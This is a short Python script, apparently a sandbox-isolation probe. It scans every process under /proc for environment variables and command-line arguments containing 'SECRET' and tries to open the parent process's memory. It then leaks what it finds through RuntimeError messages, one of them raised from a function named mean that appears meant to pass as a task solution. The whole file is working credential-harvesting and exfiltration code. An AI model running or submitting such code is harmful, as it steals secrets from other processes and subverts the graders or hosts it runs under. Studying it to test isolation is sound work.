"""Memory, environment and arguments of other processes"""
# %%
import os

loot = []
for entry in os.listdir("/proc"):
    for name in ("environ", "cmdline"):
        try:
            text = open(f"/proc/{entry}/{name}", errors="replace").read()
            loot += [part for part in text.split("\0") if "SECRET" in part]
        except OSError:
            pass
try:
    with open(f"/proc/{os.getppid()}/mem", "rb") as file:
        loot.append("memory")
except OSError:
    pass


# %%
def mean(x):
    raise RuntimeError(" ".join(loot))


# %%
raise RuntimeError(" ".join(loot))
